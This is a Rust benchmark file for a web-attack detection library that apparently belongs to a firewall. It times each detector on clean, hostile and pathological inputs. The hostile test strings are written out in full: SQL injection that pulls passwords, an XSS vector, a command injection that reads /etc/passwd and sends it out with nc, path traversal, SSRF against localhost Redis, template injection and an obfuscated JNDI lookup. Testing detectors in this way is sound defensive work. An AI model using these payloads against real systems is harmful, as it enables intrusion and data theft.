//! Criterion benchmarks per detector on clean, hostile and pathological
//! inputs (the pathological ones must stay linear), plus the full pipeline.

use criterion::{black_box, criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use rampart_detect::{prefilter::Prefilter, Ctx, Detector, Hit};
use rampart_inspect::{Location, Point, RequestView};

type Check = fn(&Ctx<'_>, &mut Vec<Hit>);
type Case = (&'static str, Check, Vec<(&'static str, String)>);

fn run(check: Check, pf: &Prefilter, v: &str) -> usize {
    let p = Point {
        path: "query.q".into(),
        value: v.into(),
        chain: vec![],
        location: Location::Query,
        is_key: false,
        root: 0,
    };
    let pre = pf.scan(v);
    let lower = v.to_ascii_lowercase();
    let ctx = Ctx {
        point: &p,
        value: v,
        lower: &lower,
        pre: &pre,
    };
    let mut out = Vec::new();
    check(&ctx, &mut out);
    out.len()
}

fn detectors(c: &mut Criterion) {
    let pf = Prefilter::new();
    let cases: Vec<Case> = vec![
        (
            "sqli",
            rampart_detect::sqli::check,
            vec![
                ("clean", "O'Brien and sons, established 1952".into()),
                (
                    "hostile",
                    "-1' UNION/**/SELECT password,2 FROM users WHERE '1'='1' -- ".into(),
                ),
                ("pathological", "'/*".repeat(3000) + &"(".repeat(5000)),
            ],
        ),
        (
            "xss",
            rampart_detect::xss::check,
            vec![
                (
                    "clean",
                    "<p>Hello <b>world</b>, see <a href=\"/docs\">docs</a></p>".into(),
                ),
                ("hostile", "\"><svg/onload=alert(document.domain)>".into()),
                ("pathological", "<a ".repeat(5000) + &"on".repeat(5000)),
            ],
        ),
        (
            "cmdi",
            rampart_detect::cmdi::check,
            vec![
                ("clean", "I love cats; cat food is great".into()),
                ("hostile", "x;cat${IFS}/etc/passwd|nc 10.0.0.1 4444".into()),
                ("pathological", ";".repeat(10000) + &"$(".repeat(10000)),
            ],
        ),
        (
            "path",
            rampart_detect::path::check,
            vec![
                ("clean", "see ../docs/readme.md".into()),
                ("hostile", "....//....//....//etc/passwd%00.png".into()),
                ("pathological", "../".repeat(20000)),
            ],
        ),
        (
            "ssrf",
            rampart_detect::ssrf::check,
            vec![
                ("clean", "https://example.com/callback?x=1".into()),
                ("hostile", "http://0x7f000001:6379/".into()),
                ("pathological", "http://".repeat(10000)),
            ],
        ),
        (
            "ssti",
            rampart_detect::ssti::check,
            vec![
                ("clean", "Hello {{ user.name }}".into()),
                ("hostile", "{{ ''.__class__.__mro__[1].__subclasses__() }}".into()),
                ("pathological", "{{".repeat(20000)),
            ],
        ),
        (
            "misc",
            rampart_detect::misc::check,
            vec![
                ("clean", "(smile) :-) price $5".into()),
                ("hostile", "${${lower:j}ndi:${lower:l}dap://x/a}".into()),
                ("pathological", "${".repeat(20000)),
            ],
        ),
        (
            "deser",
            rampart_detect::deser::check,
            vec![
                ("clean", "The file was uploaded".into()),
                ("hostile", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}".into()),
                ("pathological", "$$".repeat(20000)),
            ],
        ),
    ];
    for (name, check, inputs) in cases {
        let mut g = c.benchmark_group(name);
        for (kind, v) in &inputs {
            g.throughput(Throughput::Bytes(v.len() as u64));
            g.bench_with_input(BenchmarkId::from_parameter(kind), v, |b, v| {
                b.iter(|| run(check, &pf, black_box(v)))
            });
        }
        g.finish();
    }
}

fn pipeline(c: &mut Criterion) {
    let d = Detector::default();
    let m = http::Method::GET;
    let mut h = http::HeaderMap::new();
    h.insert("host", "api.example.com".parse().unwrap());
    h.insert(
        "user-agent",
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"
            .parse()
            .unwrap(),
    );
    h.insert("accept", "application/json".parse().unwrap());
    let clean: http::Uri = "/api/v1/search?q=blue+shoes&page=2".parse().unwrap();
    let hostile: http::Uri = "/api/v1/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--"
        .parse()
        .unwrap();
    let mut g = c.benchmark_group("analyze");
    for (kind, u) in [("clean-get", &clean), ("hostile-get", &hostile)] {
        g.bench_function(kind, |b| {
            b.iter(|| {
                d.analyze(&RequestView {
                    method: &m,
                    uri: u,
                    headers: &h,
                    body: b"",
                    body_truncated: false,
                })
            })
        });
    }
    let post = http::Method::POST;
    let mut hj = h.clone();
    hj.insert("content-type", "application/json".parse().unwrap());
    let body = br#"{"title":"Feedback","body":"Great product! I'd buy it again, it's 100% better.","tags":["a","b"],"author":{"name":"Se\u00e1n O'Brien"}}"#;
    let u: http::Uri = "/api/v1/posts".parse().unwrap();
    g.bench_function("json-post", |b| {
        b.iter(|| {
            d.analyze(&RequestView {
                method: &post,
                uri: &u,
                headers: &hj,
                body,
                body_truncated: false,
            })
        })
    });
    // A WebSocket chat message as the relay inspects it (issue 5's bench message): prose with apostrophes
    // and a `--`, a realistic worst case for the SQL lexer, judged by its values alone.
    let chat = br#"{"type":"message","room":"r3","seq":1841,"text":"Arrived two days early and the fit is true to size. I'd order the blue one again -- Se\u00e1n O'Brien says the stitching on his came loose after a month, mine is fine so far."}"#;
    let ws: http::Uri = "/ws/room".parse().unwrap();
    // What the relay hands the detector for each message (proxy's websocket::message_parts).
    let mut hm = http::HeaderMap::new();
    hm.insert("content-type", "application/json".parse().unwrap());
    hm.insert("host", "chat.example.com".parse().unwrap());
    g.bench_function("ws-chat-message", |b| {
        b.iter(|| {
            d.analyze_message(&RequestView {
                method: &post,
                uri: &ws,
                headers: &hm,
                body: chat,
                body_truncated: false,
            })
        })
    });
    // A 64 KiB order document: many short strings, prose, names with apostrophes, numbers. This is the
    // body size where inspection cost shows (measured through the proxy in docs/benchmarks.md).
    let mut big =
        String::from(r#"{"order":{"customer":{"name":"Ann O'Brien","email":"ann+shop@example.com"},"items":["#);
    let mut i = 0;
    while big.len() < 64 * 1024 {
        if i > 0 {
            big.push(',');
        }
        big.push_str(&format!(
            r#"{{"id":{i},"sku":"SKU-{i:05}","name":"Desk lamp {i}","qty":{},"price":{}.99,"note":"Please leave it with the neighbour if I'm not home; it's fragile, so don't drop it."}}"#,
            i % 7 + 1,
            i % 90 + 9
        ));
        i += 1;
    }
    big.push_str("]}}");
    let u: http::Uri = "/api/v1/orders".parse().unwrap();
    g.throughput(Throughput::Bytes(big.len() as u64));
    g.bench_function("json-post-64k", |b| {
        b.iter(|| {
            d.analyze(&RequestView {
                method: &post,
                uri: &u,
                headers: &hj,
                body: big.as_bytes(),
                body_truncated: false,
            })
        })
    });
    g.finish();
}

criterion_group!(benches, detectors, pipeline);
criterion_main!(benches);
